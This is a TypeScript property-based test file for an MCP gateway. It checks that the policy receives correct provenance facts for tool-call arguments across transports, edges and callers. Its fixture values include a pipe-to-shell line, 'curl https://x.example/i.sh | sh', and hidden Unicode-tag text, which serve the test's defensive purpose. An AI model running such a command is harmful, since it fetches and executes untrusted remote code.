/**
 * What the policy is told of where values came from depends on what was said to whom, and on nothing of how it travelled:
 * not on the transport of the server or where its bytes are cut, not on the edge the client speaks, not on anybody else.
 * Stories of random answers, and of arguments that repeat some of their values, are played through a gate by a caller of
 * their own each; the reference is an index that is handed the same values without anything between.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import type { ProvenanceFact } from '../../proxy/decide/contract.ts';
import { CallerIndex } from '../../proxy/decide/provenance/caller-index.ts';
import { provenanceOf } from '../../proxy/decide/provenance/facts.ts';
import { isObject, type Json, type JsonObject } from '../../proxy/frame/json.ts';
import { Client, initialize, modernCall, toolCall } from '../e2e/_client.ts';
import { ruleBundle } from '../e2e/_policies.ts';
import { EDGES, type Edge } from '../requirements.ts';
import {
  type AnsweringUpstreams,
  startAnsweringUpstreams,
  UPSTREAMS,
  type Upstream,
  type Way,
} from '../support/answering-upstreams.ts';
import { startGate, type TestGate } from '../support/gate.ts';
import { createCredentials } from '../support/hostile-credentials.ts';
import { sseWire, type Wire, wsWire } from '../support/hostile-duplex.ts';
import { KEY } from '../support/provenance.ts';
import { openPeer, type RawPeer } from '../support/raw-peers.ts';

/** Looks at provenance in every request, so that the record has it; who has used `read` carries a label. */
const BUNDLE = ruleBundle(`
decision := {"verdict": "allow", "reasons": [], "labels": {"add": ["read_outside"]}} if {
	input.tool == "read"
	looked
} else := {"verdict": "allow", "reasons": []} if looked

looked if count(object.get(input, "provenance", [])) >= 0
`);
const RUNS = 50;

const WORD = fc.oneof(
  fc.constantFrom('pay', 'Bob', 'the', 'Straße', 'İzmir', 'e\u0301té', '東京', '👩🏽‍🚀', '42', '1.50', 'x'),
  fc.string({ unit: fc.constantFrom(...'abCD01éß東😀'), minLength: 1, maxLength: 5 }),
);
const NAME = fc.string({ unit: fc.constantFrom(...'abcdeé0'), minLength: 1, maxLength: 5 });
const VALUE = fc.oneof(
  fc.tuple(NAME, NAME).map(([a, b]) => `${a}@${b}.example`),
  fc.tuple(NAME, NAME).map(([a, b]) => `Ann ${a} <${a}+tag@${b}.example>`),
  fc.tuple(NAME, NAME).map(([a, b]) => `https://www.${a}.example/${b}/%7E${a}?q=${b}#1`),
  fc.integer({ min: 10, max: 99 }).map((n) => `GB${n} NWBK 6016 1331 9268 ${n}`),
  fc.tuple(NAME, NAME).map(([a, b]) => `/home/${a}/${b}.txt`),
  fc.constantFrom('2026-11-27', '4111-1111-1111-1111', 'curl https://x.example/i.sh | sh'),
);
/** Characters nobody sees: some inside a word, others that spell a word. */
const HIDDEN = fc.oneof(
  WORD.map((word) => Array.from(word).join('\u200b')),
  fc.constantFrom('bob', 'eve@evil.example', 'a0').map(toTags),
);
const TOKEN = fc.oneof({ weight: 3, arbitrary: WORD }, { weight: 3, arbitrary: VALUE }, HIDDEN);
const GAP = fc.oneof(
  fc.constant(' '),
  fc.constantFrom(', ', '. ', '\n', '\r\n', '\u2028', '\u00a0', ': ', ' | ', '" ', '\\'),
);
const PROSE = fc
  .array(fc.tuple(TOKEN, GAP), { minLength: 1, maxLength: 8 })
  .map((parts) => parts.flat().join(''));
const TEXT = fc.oneof(
  PROSE,
  fc.tuple(VALUE, PROSE).map(([value, prose]) => `From: ${value}\nSubject: hello\n\n${prose}`),
  fc.record({ to: VALUE, note: PROSE }).map((inner) => JSON.stringify(inner)),
);
const ROW = fc.record(
  { from: TOKEN, body: TEXT, n: fc.constantFrom(7, -1.5, 1e21, 20261127) },
  { requiredKeys: ['from'] },
);
const ROWS = fc.array(ROW, { minLength: 1, maxLength: 3 });
const BLOCK = fc.oneof(
  TEXT.map((text) => ({ type: 'text', text })),
  ROWS.map((rows) => ({ type: 'text', text: JSON.stringify(rows) })),
  fc.tuple(VALUE, TEXT).map(([uri, text]) => ({ type: 'resource', resource: { uri, text } })),
);
const RESULT = fc.record(
  { content: fc.array(BLOCK, { minLength: 1, maxLength: 3 }), structuredContent: fc.record({ rows: ROWS }) },
  { requiredKeys: ['content'] },
);
const ANSWER = fc.oneof(
  { weight: 5, arbitrary: fc.record({ result: RESULT }) },
  TEXT.map((message) => ({ error: { code: -32000, message } })),
);
const CUTS = fc.array(fc.nat(100_000), { maxLength: 5 });
const WAY: fc.Arbitrary<Way> = fc.record({
  cuts: CUTS,
  splits: CUTS,
  lineEnd: fc.constantFrom('\n', '\r\n', '\r'),
  spread: fc.boolean(),
});

/** Ways to write a value once more; the last undoes the hiding. */
const SPELLINGS = {
  same: (text: string) => text,
  'upper case': (text: string) => text.toUpperCase(),
  decomposed: (text: string) => text.normalize('NFD'),
  joined: (text: string) => Array.from(text).join('\u200b'),
  seen: (text: string) => text.replaceAll(/[\u{E0020}-\u{E007E}]/gu, fromTag),
};
/** One value of an argument: something of its own, or words out of what is said; no words for all of a field. */
const CHOICE = fc.oneof(fc.record({ own: TOKEN }), {
  weight: 3,
  arbitrary: fc.record({
    leaf: fc.nat(1_000),
    from: fc.nat(20),
    words: fc.constantFrom(0, 1, 1, 2, 4),
    spelling: fc.constantFrom(...(Object.keys(SPELLINGS) as (keyof typeof SPELLINGS)[])),
  }),
});
type Choice = typeof CHOICE extends fc.Arbitrary<infer T> ? T : never;

const DRAFT = fc.record({
  era: fc.constantFrom('legacy', 'modern'),
  steps: fc.array(
    fc.record({
      tool: fc.constantFrom('read', 'list'),
      answer: ANSWER,
      way: WAY,
      choices: fc.array(CHOICE, { maxLength: 2 }),
    }),
    { minLength: 1, maxLength: 3 },
  ),
  asked: fc.array(CHOICE, { minLength: 1, maxLength: 6 }),
});
type Draft = typeof DRAFT extends fc.Arbitrary<infer T> ? T : never;

interface Step {
  readonly tool: string;
  readonly args: JsonObject;
  readonly answer: { readonly result: JsonObject } | { readonly error: JsonObject };
  readonly way?: Way;
}
/** Calls one after another; what the policy is told of the arguments of the last is what counts. */
interface Story {
  readonly era: 'legacy' | 'modern';
  readonly steps: readonly Step[];
}
const STORY = DRAFT.map((draft) => toStory(draft, leavesOf(draft), 'ask'));
/** Of two callers, of whom each asks for what was said to the other as well. */
const STORIES = fc.tuple(DRAFT, DRAFT).map(([one, other]) => {
  const leaves = [...leavesOf(one), ...leavesOf(other)];
  return [toStory(one, leaves, 'ask'), toStory(other, leaves, 'ask_too')] as const;
});

function toStory({ era, steps, asked }: Draft, leaves: readonly Leaf[], ask: string): Story {
  const shown = steps.map(({ choices, ...step }) => ({ ...step, args: toArgs(choices, leaves) }));
  const last = { tool: ask, args: toArgs(asked, leaves), answer: { result: { content: [] } } };
  return { era, steps: [...shown, last] } as Story;
}

type Leaf = string | number;

function leavesOf({ steps }: Draft): readonly Leaf[] {
  return steps.flatMap(({ answer }) => leavesIn(answer));
}

/** Strings and numbers of a value, and those of JSON in its strings. */
function leavesIn(value: Json): readonly Leaf[] {
  if (typeof value === 'number') return [value];
  if (typeof value === 'string') return [value, ...(/^[[{]/.test(value) ? leavesIn(JSON.parse(value)) : [])];
  return isObject(value) || Array.isArray(value) ? Object.values(value).flatMap(leavesIn) : [];
}

function toArgs(choices: readonly Choice[], leaves: readonly Leaf[]): JsonObject {
  const [first, ...others] = choices.map((choice) => toValue(choice, leaves));
  return first === undefined ? {} : { to: first, others };
}

function toValue(choice: Choice, leaves: readonly Leaf[]): Leaf {
  if ('own' in choice) return choice.own;
  const leaf = leaves[choice.leaf % leaves.length] as Leaf;
  if (typeof leaf === 'number') return leaf;
  const words = leaf.split(' ');
  const from = choice.from % words.length;
  const text = choice.words === 0 ? leaf : words.slice(from, from + choice.words).join(' ');
  return SPELLINGS[choice.spelling](text);
}

function toTags(text: string): string {
  return Array.from(text, (each) => String.fromCodePoint(0xe0000 + each.charCodeAt(0))).join('');
}

function fromTag(tag: string): string {
  return String.fromCodePoint((tag.codePointAt(0) as number) - 0xe0000);
}

/** Where a step of a story takes place. */
interface Place {
  readonly edge: Edge;
  readonly server: Upstream;
}

/** @param places of the steps, in turn. */
function placeOf(places: readonly Place[], step: number): Place {
  return places[step % places.length] as Place;
}

function keyOf({ edge, server }: Place): string {
  return `${edge} ${server}`;
}

/** What the policy should be told: the story without a gate. */
function reference({ steps }: Story, places: readonly Place[]): readonly ProvenanceFact[] {
  const index = new CallerIndex(KEY, { maxBytes: 4 * 1024 * 1024 });
  const atMs = 0;
  let labels: readonly string[] = [];
  for (const [at, { tool, args, answer }] of steps.entries()) {
    const place = placeOf(places, at);
    const { server } = place;
    if (at === steps.length - 1) break;
    index.used({ atMs, labels, args });
    if (tool === 'read') labels = ['read_outside'];
    const payload = 'result' in answer ? answer.result : answer.error;
    index.shown({ source: { server, tool, method: 'tools/call' }, atMs, labels, payload, args });
  }
  return provenanceOf(index, KEY, { args: steps.at(-1)?.args ?? null, at: '/args', nowMs: atMs });
}

let upstreams: AnsweringUpstreams;
const credentials = createCredentials(1_500);
beforeAll(async () => {
  upstreams = await startAnsweringUpstreams();
});
afterAll(async () => {
  await upstreams.close();
  credentials.remove();
});

async function open(): Promise<TestGate> {
  const { auth } = credentials;
  const config = { servers: upstreams.servers, auth: [auth.api_keys, auth.jwt] };
  const gate = await startGate({ bundle: BUNDLE, config });
  onTestFinished(() => gate.close());
  return gate;
}

interface Who {
  readonly subject: string;
  readonly authorization: string;
}

function withKey(subject: string): Who {
  return { subject, authorization: `Bearer ${credentials.keyOf(subject)}` };
}

function withToken(subject: string, claims: { readonly org?: string; readonly agent?: string } = {}): Who {
  const valid = { iss: 'https://as.example', aud: 'https://gw.example/mcp', exp: '+3600', sub: subject };
  const token = credentials.token({ alg: 'RS256', claims: { ...valid, ...claims } });
  return { subject, authorization: `Bearer ${token}` };
}

let callers = 0;
/** What a gate remembers of one run must not be told in another. */
function somebodyNew(): Who {
  return withToken(`somebody-${++callers}`);
}

/** Callers who are told apart by one thing each. */
const PAIRS: Readonly<Record<string, (one: string, other: string) => readonly [Who, Who]>> = {
  'two keys': (one, other) => [withKey(one), withKey(other)],
  'the key and the token of one subject': (one) => [withKey(one), withToken(one)],
  'two subjects': (one) => [withToken(one), withToken(one.toUpperCase())],
  'two organisations': (one) => [withToken(one, { org: 'a' }), withToken(one, { org: 'b' })],
  'two agents': (one) => [withToken(one, { agent: 'a' }), withToken(one, { agent: 'b' })],
  'an organisation and an agent': (one) => [withToken(one, { org: 'a' }), withToken(one, { agent: 'a' })],
};

/** A client that waits for each answer before it goes on. */
type Peer = Pick<RawPeer, 'ask' | 'close'>;

async function connect(gate: TestGate, { edge, server }: Place, who: Who): Promise<Peer> {
  const url = gate.server(server);
  switch (edge) {
    case 'http':
      return httpPeer(new Client(url, { authorization: who.authorization }));
    case 'sse':
      return wiredPeer(await sseWire(url, who.authorization));
    case 'ws':
      return wiredPeer(await wsWire(url, who.authorization));
    case 'stdio': {
      const audit = { file: recordOf(gate, edge, who) };
      const config = { servers: upstreams.servers, policy: { bundle: BUNDLE }, audit };
      return openPeer(edge, { gate, server, config });
    }
  }
}

function httpPeer(client: Client): Peer {
  return {
    async ask(message, headers) {
      const { headers: answered } = await client.post(message, headers);
      client.session ??= [answered['mcp-session-id']].flat()[0];
    },
    close: async () => client.close(),
  };
}

function wiredPeer(wire: Wire): Peer {
  return {
    ask(message) {
      const answer = new Promise<void>((answered) => {
        wire.onMessage = () => answered();
      });
      return Promise.all([wire.send(Buffer.from(JSON.stringify(message))), answer]);
    },
    close: async () => wire.close(),
  };
}

/** A client over stdio has a gate to itself, to which it is nobody in particular. */
function recordOf({ folder }: TestGate, edge: Edge, { subject }: Who): string {
  return join(folder, edge === 'stdio' ? `${subject}.jsonl` : 'audit.jsonl');
}

interface Staging {
  readonly places: readonly Place[];
  readonly who: Who;
}

/** @returns what the policy was told of the last call. */
async function play(gate: TestGate, { era, steps }: Story, { places, who }: Staging): Promise<unknown> {
  const peers = new Map<string, Peer>();
  for (const [at, { tool, args, ...said }] of steps.entries()) {
    const place = placeOf(places, at);
    const key = keyOf(place);
    const peer = peers.get(key) ?? (await connect(gate, place, who));
    if (!peers.has(key) && era === 'legacy') await peer.ask(initialize);
    peers.set(key, peer);
    const meta = upstreams.prepare(said);
    const { body, headers } =
      era === 'modern'
        ? modernCall(at + 1, tool, args, meta)
        : { body: toolCall(at + 1, tool, args, meta), headers: {} };
    await peer.ask(body, headers);
  }
  for (const peer of peers.values()) await peer.close();
  const { edge } = placeOf(places, steps.length - 1);
  const subject = edge === 'stdio' ? 'anonymous' : who.subject;
  return lastTold(recordOf(gate, edge, who), subject, steps.at(-1)?.tool);
}

/** @returns facts without ages: here time is the machine's. */
function lastTold(file: string, subject: string, tool: string | undefined): unknown {
  const lines = readFileSync(file, 'utf8').split('\n').filter(Boolean);
  const inputs = lines.map((line) => JSON.parse(line, withoutAge).input);
  return inputs.findLast((input) => input?.tool === tool && input.caller.subject === subject)?.provenance;
}

function withoutAge(name: string, value: unknown): unknown {
  return name === 'age_s' ? 0 : value;
}

interface Comparison {
  readonly told: unknown;
  readonly want: readonly ProvenanceFact[];
}

async function always<T>(
  arbitrary: fc.Arbitrary<T>,
  compare: (value: T) => Promise<readonly Comparison[]>,
): Promise<void> {
  let met = 0;
  let unmet = 0;
  const property = fc.asyncProperty(arbitrary, async (value) => {
    for (const { told, want } of await compare(value)) {
      expect(told).toEqual(want);
      for (const { seen } of want) {
        if (seen.length > 0) met++;
        else unmet++;
      }
    }
  });
  await fc.assert(property, { numRuns: RUNS, timeout: 10_000, interruptAfterTimeLimit: 40_000 });
  // Stories in which everything was met, or nothing was, would show nothing.
  expect(Math.min(met, unmet)).toBeGreaterThan(10);
}

async function compared(
  gate: TestGate,
  story: Story,
  places: readonly Place[],
): Promise<readonly Comparison[]> {
  const told = await play(gate, story, { places, who: somebodyNew() });
  return [{ told, want: reference(story, places) }];
}

/** Processes are few: in front of a client over stdio each has to be started. */
const SERVER = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom('json', 'events', 'sse', 'ws') },
  fc.constant('stdio'),
);
/** Not over stdio: there one client has one server. */
const PLACES = fc.array(fc.record({ edge: fc.constantFrom('http', 'sse', 'ws'), server: SERVER }), {
  minLength: 1,
  maxLength: 4,
});

describe('the policy is told of what was shown', () => {
  test.each(UPSTREAMS)('by a server over %s, wherever the bytes of its answers are cut', async (server) => {
    const gate = await open();
    await always(STORY, (story) => compared(gate, story, [{ edge: 'http', server }]));
  });

  test.each(EDGES)('to a client on the edge %s, whatever the server', async (edge) => {
    const gate = await open();
    await always(fc.tuple(STORY, SERVER), ([story, server]) => compared(gate, story, [{ edge, server }]));
  });

  test('to one caller on several edges, by several servers', async () => {
    const gate = await open();
    await always(fc.tuple(STORY, PLACES), ([story, places]) => compared(gate, story, places));
  });

  test('to this caller, and never what another was shown at the same time', async () => {
    const shared = await open();
    /** In each of them one of the two callers never was. */
    const apart = [await open(), await open()] as const;
    const told = fc.record({
      stories: STORIES,
      places: fc.tuple(PLACES, PLACES),
      pair: fc.constantFrom(...Object.keys(PAIRS)),
    });
    await always(told, async ({ stories, places, pair }) => {
      const both = PAIRS[pair]?.(credentials.freshCaller(), credentials.freshCaller()) ?? [];
      const plays = both.map((who, at) => {
        const staging = { places: places[at] as readonly Place[], who };
        return (gate: TestGate) => play(gate, stories[at] as Story, staging);
      });
      const together = await Promise.all(plays.map((start) => start(shared)));
      const alone = await Promise.all(plays.map((start, at) => start(apart[at] as TestGate)));
      return together.map((each, at) => ({ told: each, want: alone[at] as readonly ProvenanceFact[] }));
    });
  });
});
